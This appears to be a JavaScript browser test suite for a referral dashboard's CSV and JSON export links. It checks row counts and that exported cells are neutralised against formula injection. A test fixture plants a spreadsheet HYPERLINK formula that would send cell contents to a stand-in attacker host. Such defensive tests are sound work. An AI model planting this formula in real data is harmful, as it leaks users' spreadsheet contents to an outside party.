// Every list can be taken along as it is filtered, for a spreadsheet and for a program, by the links below it.

import assert from 'node:assert/strict'
import { before, test } from 'node:test'
import { downloaded, signedIn } from './desk.mjs'
import { followed } from './followed.mjs'
import { chromium, world } from './house.mjs'
import { full, opened } from './programs.mjs'
import { until } from './until.mjs'

let program

before(async () => {
  program = await full(world)
})

/** Rows of a CSV by RFC 4180, without the names of its columns. */
function rows(text) {
  const cells = [...text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)]
  const found = [[]]
  for (const [, quoted, plain, end] of cells) {
    found.at(-1).push(quoted?.replaceAll('""', '"') ?? plain)
    if (end !== ',') found.push([])
  }
  return found.slice(1, -1)
}

/** A list as it is filtered, how many rows it shows then, and the part of the file's name that says which it is. */
const LISTS = [
  ['conversions', 'conversions'], ['conversions?show=sales', 'conversions'], ['conversions?show=leads', 'conversions'], ['conversions?show=uncredited', 'conversions'],
  ['referrers', 'referrers'], ['referrers?q=byron', 'referrers'], ['referrers?state=nothing', 'referrers'],
  ['rewards', 'rewards'], ['rewards?state=approved', 'rewards'], ['rewards?state=to_approve', 'rewards'], ['payouts', 'payouts'],
  ['review', 'flags'], ['review?show=decided', 'flags'], ['review?show=all', 'flags'],
  ['disputes', 'disputes'], ['disputes?show=decided', 'disputes'], ['disputes?show=all', 'disputes'],
  ['settings/audit?about=referrer', 'audit'], ['settings/audit?actor=server&about=sale', 'audit'],
]

for (const javaScriptEnabled of [true, false]) {
  test(`the links below a list give the rows it shows, ${javaScriptEnabled ? 'with' : 'without'} script`, { timeout: 120_000 }, async () => {
    const page = await signedIn(world, chromium, program.key, { javaScriptEnabled })
    for (const [list, called] of LISTS) {
      await page.goto(`${world.edge}/dashboard/live/${list}`)
      const main = page.getByRole('main')
      const shown = await main.locator('tbody tr, .cases > li').count()
      const csv = await downloaded(page, main.getByRole('link', { name: 'CSV' }))
      const json = await downloaded(page, main.getByRole('link', { name: 'JSON' }))
      for (const file of [csv, json]) assert.ok(file.name.startsWith(`${program.slug}-${called}-20`), file.name)
      const objects = JSON.parse(json.text)
      assert.equal(objects.length, shown, `${list} as JSON`)
      assert.equal(rows(csv.text).length, shown, `${list} as CSV`)
      const first = objects[0]?.id
      if (first) assert.equal(rows(csv.text)[0][0], first, list)
    }
    await page.context().close()
  })
}

test('the settings have every table, whole, in both formats', { timeout: 120_000 }, async () => {
  const page = await signedIn(world, chromium, program.key)
  const tables = page.getByRole('region', { name: 'Tables as files' }).getByRole('listitem')
  await page.goto(`${world.edge}/dashboard/live/settings`)
  const count = await tables.count()
  assert.ok(count >= 13)
  for (let at = 0; at < count; at += 1) {
    // Chromium lets one page begin ten downloads, then asks its reader.
    await page.goto(`${world.edge}/dashboard/live/settings`)
    const csv = await downloaded(page, tables.nth(at).getByRole('link', { name: /CSV$/ }))
    const json = await downloaded(page, tables.nth(at).getByRole('link', { name: /JSON$/ }))
    assert.equal(rows(csv.text).length, JSON.parse(json.text).length, csv.name)
  }
  await page.context().close()
})

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'

/** Where a short table stands: the page, its part, a row of it, and what the file has of that row's name. */
const SHORT = [
  ['', 'Who brings most', '.ranks > li', 'leaders', 'referrer_name'], ['', 'Where clicks come from', '.shares > li', 'channels'], ['', 'Countries', '.shares > li', 'countries'],
  ['', 'From seen to rewarded', '.funnel > li', 'funnel'], ['links', 'Assets', '.shelf > li', 'assets', 'title'],
  ['settings', 'Keys', '.cases > li', 'keys', 'id'], ['settings', 'Sessions', '.cases > li', 'sessions'],
]

for (const javaScriptEnabled of [true, false]) {
  test(`short tables are files, too, row by row what is shown, and compute nothing, ${javaScriptEnabled ? 'with' : 'without'} script`, { timeout: 180_000 }, async () => {
    const ferns = await opened(world)
    await ferns.tell('referrers', { code: 'ada', name: FORMULA })
    await ferns.tell('referrers', { code: 'bob', name: 'Bob' })
    for (const [order_id, code, amount] of [['o1', 'ada', 9900], ['o2', 'bob', 900]]) await ferns.tell('sales', { order_id, customer_id: order_id, amount, currency: 'EUR', code })
    await ferns.tell('assets', { kind: 'text', title: FORMULA, text: '+1' })
    for (const [channel, country] of [['whatsapp', 'DE'], ['email', 'FR']]) {
      await followed(`${world.edge}/r/${ferns.slug}/ada?gwc=${channel}`, { 'cf-ipcountry': country, 'User-Agent': `Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${country === 'DE' ? 120 : 121}.0.0.0 Safari/537.36` })
    }
    await until('the clicks are counted', async () => (await world.clicks(ferns)).length === 2)
    const page = await signedIn(world, chromium, ferns.key, { javaScriptEnabled })
    for (const [at, region, row, called, name] of SHORT) {
      await page.goto(`${world.edge}/dashboard/live${at && `/${at}`}`)
      const part = page.getByRole('region', { name: region, exact: true })
      const shown = await part.locator(row).evaluateAll((rows) => rows.map((row) => row.innerText))
      assert.ok(shown.length, region)
      const csv = await downloaded(page, part.getByRole('link', { name: /, CSV$/ }))
      const json = await downloaded(page, part.getByRole('link', { name: /, JSON$/ }))
      for (const file of [csv, json]) assert.ok(file.name.startsWith(`${ferns.slug}-${called}-20`), file.name)
      const objects = JSON.parse(json.text)
      assert.equal(objects.length, shown.length, `${called} as JSON`)
      assert.equal(rows(csv.text).length, shown.length, `${called} as CSV`)
      for (const [place, object] of objects.entries()) {
        if (name) assert.ok(shown[place].includes(object[name]), `${called}: ${object[name]} is in ${shown[place]}`)
        for (const cell of rows(csv.text)[place]) assert.ok(!/^\s*[=+@]/.test(cell), `${called}: ${cell} computes`)
      }
      if (['leaders', 'assets'].includes(called)) assert.ok(csv.text.includes(`"'${FORMULA.replaceAll('"', '""')}"`), csv.text)
    }
    await page.context().close()
  })
}
